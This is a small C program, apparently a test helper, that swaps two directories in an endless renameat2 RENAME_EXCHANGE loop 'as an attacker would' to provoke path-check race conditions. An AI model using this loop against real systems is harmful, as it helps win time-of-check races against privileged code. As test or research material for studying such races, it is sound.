/* Swaps two directories for ever, as an attacker would: swap ONE TWO. While one of them is mounted on, the kernel
 * refuses (EBUSY); then it tries again. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>

int main(int argc, char **argv)
{
	if (argc != 3)
		return 2;
	for (;;)
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) && errno != EBUSY)
			return perror("swap"), 1;
}
